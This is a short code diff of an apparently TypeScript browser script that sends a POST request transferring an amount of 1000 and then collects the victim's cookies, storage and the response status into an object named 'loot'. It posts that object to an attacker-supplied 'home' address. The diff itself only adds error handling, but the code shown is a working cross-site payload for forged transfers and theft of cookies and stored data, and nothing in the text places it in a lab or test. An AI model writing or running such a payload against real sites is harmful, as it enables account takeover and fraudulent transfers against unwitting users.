@@ -5,8 +5,8 @@ async function script({ home, transfer }: { home: string; transfer: string }) {
     method: 'POST',
     headers: { 'Content-Type': 'application/json' },
     body: '{"amount":1000}',
-  })
-  const loot = { cookies: document.cookie, storage, status: response.status }
+  }).catch(() => null)
+  const loot = { cookies: document.cookie, storage, status: response?.status ?? null }
   await fetch(home, { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) })
 }
 
